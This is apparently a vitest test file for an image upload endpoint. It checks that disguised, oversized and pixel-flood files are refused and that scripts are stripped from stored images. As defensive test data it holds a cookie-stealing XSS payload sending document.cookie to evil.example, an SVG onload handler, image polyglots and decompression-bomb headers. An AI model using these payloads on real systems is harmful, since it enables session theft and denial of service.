import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { registerUser, type TestUser } from '../../helpers/auth.ts';
import { useTestApp } from '../../helpers/test-app.ts';
import { hugePngHeader, multipartBody, pngOf } from '../../helpers/upload.ts';
import { snapshotOf } from './hostile-input.ts';

const TEN_MB = 10 * 1024 * 1024;
const KINDS = ['avatar', 'banner'] as const;

const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

/** A GIF whose logical screen claims 65535 × 65535 pixels, in a few dozen bytes. */
function hugeGifHeader(): Buffer {
  return Buffer.concat([
    Buffer.from('GIF89a', 'ascii'),
    Buffer.from([0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]),
    Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
  ]);
}

interface Refusal {
  name: string;
  status: 413 | 415;
  bytes: () => Buffer | Promise<Buffer>;
  filename: string;
  type: string;
}

const REFUSALS: Refusal[] = [
  {
    name: 'a text file named .png',
    status: 415,
    bytes: () => Buffer.from('just some notes\n'.repeat(40)),
    filename: 'notes.png',
    type: 'image/png',
  },
  {
    name: 'an HTML page disguised as a JPEG',
    status: 415,
    bytes: () => Buffer.from(`<!doctype html><html><body>${script}</body></html>`),
    filename: 'holiday.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'JavaScript disguised as a GIF',
    status: 415,
    bytes: () => Buffer.from(`GIF89a=1;${script.replace(/<\/?script>/g, '')}`),
    filename: 'funny.gif',
    type: 'image/gif',
  },
  {
    name: 'a file over 10 MB',
    status: 413,
    bytes: async () => Buffer.concat([await pngOf(8, 8), Buffer.alloc(TEN_MB + 1)]),
    filename: 'big.png',
    type: 'image/png',
  },
  {
    name: 'a pixel-flood PNG (tiny file, 2.5 gigapixels declared)',
    status: 413,
    bytes: () => hugePngHeader(50_000, 50_000),
    filename: 'bomb.png',
    type: 'image/png',
  },
  {
    name: 'a pixel-flood GIF',
    status: 413,
    bytes: hugeGifHeader,
    filename: 'bomb.gif',
    type: 'image/gif',
  },
  {
    name: 'a pixel-flood SVG',
    status: 413,
    bytes: () =>
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000"><rect width="10" height="10"/></svg>',
      ),
    filename: 'bomb.svg',
    type: 'image/svg+xml',
  },
];

describe('image uploads', () => {
  const t = useTestApp();
  let owner: TestUser;

  beforeAll(async () => {
    owner = await registerUser(t.app);
  });

  async function upload(kind: string, bytes: Buffer, filename: string, type: string) {
    const body = await multipartBody(bytes, { filename, type });
    return t.app.inject({
      method: 'PUT',
      url: `/api/users/me/${kind}`,
      payload: body.payload,
      headers: { ...body.headers, cookie: owner.cookie },
    });
  }

  for (const kind of KINDS) {
    it.each(REFUSALS)(`refuses ${kind}: $name with $status, storing nothing`, async (refusal) => {
      const before = await snapshotOf(t.database.handle, ['users', 'media']);
      const started = performance.now();
      const response = await upload(kind, await refusal.bytes(), refusal.filename, refusal.type);
      expect(response.statusCode, response.body).toBe(refusal.status);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.json().error.code).toBe(
        refusal.status === 413 ? 'payload-too-large' : 'unsupported-media-type',
      );
      expect(performance.now() - started).toBeLessThan(5000);
      expect(await snapshotOf(t.database.handle, ['users', 'media'])).toEqual(before);
    });
  }

  async function storedImage(response: { json(): { profileImageUrl: string } }) {
    const image = await t.app.inject(response.json().profileImageUrl);
    expect(image.headers['content-type']).toBe('image/webp');
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    expect(String(image.headers['content-security-policy'])).toContain("default-src 'none'");
    return image.rawPayload;
  }

  it('stores an SVG with a script as WebP pixels, without the script', async () => {
    const svg = Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" width="48" height="48" onload="alert(1)">${script}<rect width="48" height="48" fill="gold"/></svg>`,
    );
    const response = await upload('avatar', svg, 'evil.svg', 'image/svg+xml');
    expect(response.statusCode, response.body).toBe(200);
    const stored = await storedImage(response);
    expect((await sharp(stored).metadata()).format).toBe('webp');
    expect(stored.toString('latin1')).not.toMatch(/script|onload|alert/);
  });

  it('keeps only the pixels of a real image that carries a page after its end', async () => {
    const polyglot = Buffer.concat([await pngOf(32, 32), Buffer.from(`<html>${script}</html>`)]);
    const response = await upload('avatar', polyglot, 'photo.png', 'image/png');
    expect(response.statusCode, response.body).toBe(200);
    const stored = await storedImage(response);
    expect(stored.subarray(0, 4).toString()).toBe('RIFF');
    expect(stored.toString('latin1')).not.toMatch(/script|evil\.example/);
  });
});
